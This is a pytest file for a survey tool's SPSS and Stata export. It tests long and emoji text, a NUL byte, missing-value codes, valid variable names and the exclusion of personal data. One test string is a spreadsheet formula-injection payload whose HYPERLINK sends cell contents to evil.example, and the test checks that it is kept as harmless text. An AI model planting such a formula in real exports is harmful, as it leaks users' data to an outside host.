"""SPSS and Stata files of a small instrument built to be awkward: hostile and long text, a date
behind a skip rule, numbers that collide with the missing codes, names no statistics package
accepts as they are, and a personal-data question that must never appear.

Responses are recorded through ``record_response``, like web answers; the NUL byte, which the
answer checks strip on the way in, is written into the database directly (as older data or an
import might hold it).
"""

from __future__ import annotations

import re
from collections.abc import Callable
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from sqlalchemy import select, update
from stat_support import VALID_NAME, Read, read_dta, read_sav, spss_days

from feedback.db import Answer, Instrument, Question
from feedback.db.session import Database
from feedback.db.summary_queries import ResponseFilter
from feedback.domain.loader import load_file
from feedback.services.exports import instruments_of
from feedback.services.instruments import save_instrument
from feedback.services.responses import record_response
from feedback.services.stat_exports import export_stat

SLUG = "stat-hostile"
LONG_NAME = "a_question_name_much_longer_than_stata_allows_for_a_variable"
FORM = f"""
settings:
  form_id: {SLUG}
  form_title: Statistics file check
  version: "1"
  kind: survey
survey:
  - type: text
    name: full_name
    label: Your name
    personal_data: yes
  - type: select_one yes_no
    name: attended
    label: Did you attend?
  - type: date
    name: attended_on
    label: When did you attend?
    relevant: "${{attended}} = 'yes'"
  - type: integer
    name: sessions
    label: How many sessions did you miss (negative if you attended extra ones)?
  - type: decimal
    name: hours
    label: Hours spent
  - type: select_multiple topics
    name: topics
    label: Which topics interested you?
  - type: text
    name: comments
    label: Any comments?
    appearance: multiline
  - type: select_one yes_no
    name: {LONG_NAME}
    label: A question with a long name
  - type: select_one yes_no
    name: with
    label: A question named like a reserved word
choices:
  yes_no:
    - name: "yes"
      label: "Yes"
    - name: "no"
      label: "No"
  topics:
    - name: funding-bids
      label: Funding bids
    - name: data.protection
      label: Data protection
"""
HOSTILE = ('=HYPERLINK("http://evil.example/?q="&A1,"Click me") ' + "Résumé 😀 " * 1200)[:9_997] + "end"
WITH_NUL = HOSTILE[:5000] + "\x00" + HOSTILE[5000:]
HUGE = "😀" * 32_000  # 32,000 characters (an answer may have 32,767), 128,000 bytes of UTF-8
ANSWERS: list[dict[str, object]] = [
    {"full_name": "Ada Lovelace-Secret", "attended": "yes", "attended_on": "2026-03-01", "sessions": 3,
     "hours": 2.25, "topics": ["funding-bids"], "comments": HOSTILE, LONG_NAME: "yes", "with": "no"},
    {"attended": "no", "sessions": -8, "hours": 0.5, "topics": ["funding-bids", "data.protection"],
     "comments": HUGE},
    {"attended": "yes", "sessions": -9},
    {},
]  # fmt: skip


@pytest.fixture
def db_with_answers(db: Database, tmp_path: Path) -> Database:
    path = tmp_path / f"{SLUG}.yaml"
    path.write_text(FORM)
    with db.write() as session:
        save_instrument(session, load_file(path))
        instrument = session.scalar(select(Instrument).where(Instrument.slug == SLUG))
        for values in ANSWERS:
            record_response(session, instrument, values, status="partial", submitted_at=None)
        if session.get_bind().dialect.name == "sqlite":  # PostgreSQL text cannot hold a NUL at all
            comments = select(Question.id).where(Question.name == "comments").scalar_subquery()
            session.execute(
                update(Answer)
                .where(Answer.question_id == comments, Answer.value == HOSTILE)
                .values(value=WITH_NUL)
            )
    return db


Exporter = Callable[[str], Read]


@pytest.fixture
def export(db_with_answers: Database, tmp_path: Path) -> Exporter:
    def run(file_format: str) -> Read:
        target = tmp_path / f"out.{file_format}"
        with db_with_answers.read() as session:
            instruments = instruments_of(session, SLUG, None)
            export_stat(session, instruments, target, ResponseFilter(), "secret", file_format)
        assert b"Lovelace-Secret" not in target.read_bytes()
        return read_sav(target) if file_format == "sav" else read_dta(target)

    return run


@pytest.mark.parametrize("file_format", ["sav", "dta"])
def test_hostile_text_survives_without_its_nul(export: Exporter, file_format: str) -> None:
    read = export(file_format)
    comments = read.column("comments")
    assert len(HOSTILE) == 10_000 and "\x00" not in comments[0]
    assert comments[0] == HOSTILE  # the formula stays text, whole, emoji and all
    assert comments[2:] == ["", ""]


def test_spss_continues_text_longer_than_a_string_in_part_variables(export: Exporter) -> None:
    read = export("sav")
    parts = [n for n in read.meta.column_names if re.fullmatch(r"comments(_p\d)?", n)]
    assert parts == ["comments", "comments_p2", "comments_p3", "comments_p4"]
    row = read.rows[1]
    assert "".join(row[n] for n in parts) == HUGE
    assert all(len(row[n].encode()) <= 32_767 for n in parts)
    assert read.label("comments_p2") == "Any comments?: part 2 of 4"
    assert all(read.rows[0][n] == "" for n in parts[1:])


def test_stata_keeps_long_text_whole_as_strL(export: Exporter) -> None:
    read = export("dta")
    assert read.column("comments")[1] == HUGE
    assert not any(n.startswith("comments_p") for n in read.meta.column_names)


@pytest.mark.parametrize("file_format", ["sav", "dta"])
def test_personal_data_questions_are_never_exported(export: Exporter, file_format: str) -> None:
    read = export(file_format)
    assert not any("name" in n.lower() and "full" in n.lower() for n in read.meta.column_names)
    assert not any("Your name" in label for label in read.meta.column_labels if label)


def test_spss_dates_and_missing_codes_move_away_from_real_answers(export: Exporter) -> None:
    read = export("sav")
    # Answers -8 and -9 exist, so the codes are -98 (not shown) and -99 (not answered).
    assert read.column("sessions") == [3.0, -8.0, -9.0, -99.0]
    assert read.value_labels("sessions") == {
        -98.0: "Not shown (skipped)",
        -99.0: "Missing (shown, not answered)",
    }
    assert sorted(r["lo"] for r in read.meta.missing_ranges["sessions"]) == [-99.0, -98.0]
    assert "-98 = not shown" in " ".join(read.meta.notes)
    assert read.column("hours") == [2.25, 0.5, -99.0, -99.0]
    assert read.meta.original_variable_types["hours"] == "F12.2"
    assert read.column("attended_on")[0] == date(2026, 3, 1)
    assert read.meta.original_variable_types["attended_on"] == "SDATE10"
    raw = list(read.raw["attended_on"])
    assert raw == [spss_days(date(2026, 3, 1)), -98.0, -99.0, -98.0]  # routed past unless "yes"
    assert read.column("topics__funding_bids") == [1.0, 1.0, -99.0, -99.0]
    assert read.column("topics__data_protection") == [0.0, 1.0, -99.0, -99.0]


def test_stata_dates_and_extended_missing_values(export: Exporter) -> None:
    read = export("dta")
    assert read.column("sessions") == [3.0, -8.0, -9.0, "b"]  # real answers stay real
    assert read.column("attended_on") == [date(2026, 3, 1), "a", "b", "a"]
    assert read.meta.original_variable_types["attended_on"] == "%tdCCYY-NN-DD"
    assert read.value_labels("attended_on") == {
        "a": "Not shown (skipped)",
        "b": "Missing (shown, not answered)",
    }
    assert read.column("submitted_at") == [None] * 4  # partial: never submitted
    assert read.meta.original_variable_types["submitted_at"] == "%tc"


@pytest.mark.parametrize(("file_format", "limit"), [("sav", 64), ("dta", 32)])
def test_names_are_valid_unique_and_mapped_in_the_label(
    export: Exporter, file_format: str, limit: int
) -> None:
    read = export(file_format)
    names = read.meta.column_names
    assert all(re.fullmatch(VALID_NAME, n) and len(n.encode()) <= limit for n in names), names
    assert len({n.lower() for n in names}) == len(names)
    assert "with_" in names and read.label("with_") == "[with] A question named like a reserved word"
    assert (
        read.label("topics__funding_bids")
        == "[topics/funding-bids] Which topics interested you?: Funding bids"
    )
    long = next(n for n in names if n.startswith("a_question_name"))
    if file_format == "sav":
        assert long == LONG_NAME and read.label(long) == "A question with a long name"
    else:
        assert len(long) < len(LONG_NAME)
        assert read.label(long).startswith(f"[{LONG_NAME}] A question") and len(read.label(long)) <= 80
    assert read.column(long)[0] == 1.0 and read.value_labels(long)[1] == "Yes"


def test_timestamps_are_dates_and_times(db: Database, tmp_path: Path) -> None:
    path = tmp_path / f"{SLUG}.yaml"
    path.write_text(FORM)
    when = datetime(2026, 3, 1, 12, 30)  # UTC, as both formats store it (neither has time zones)
    with db.write() as session:
        save_instrument(session, load_file(path))
        instrument = session.scalar(select(Instrument).where(Instrument.slug == SLUG))
        record_response(session, instrument, {"attended": "no"}, submitted_at=when.replace(tzinfo=UTC))
        instruments = [instrument]
        for file_format in ("sav", "dta"):
            export_stat(
                session, instruments, tmp_path / f"t.{file_format}", ResponseFilter(), "s", file_format
            )
    assert read_sav(tmp_path / "t.sav").column("submitted_at") == [when]
    assert read_dta(tmp_path / "t.dta").column("submitted_at") == [when]
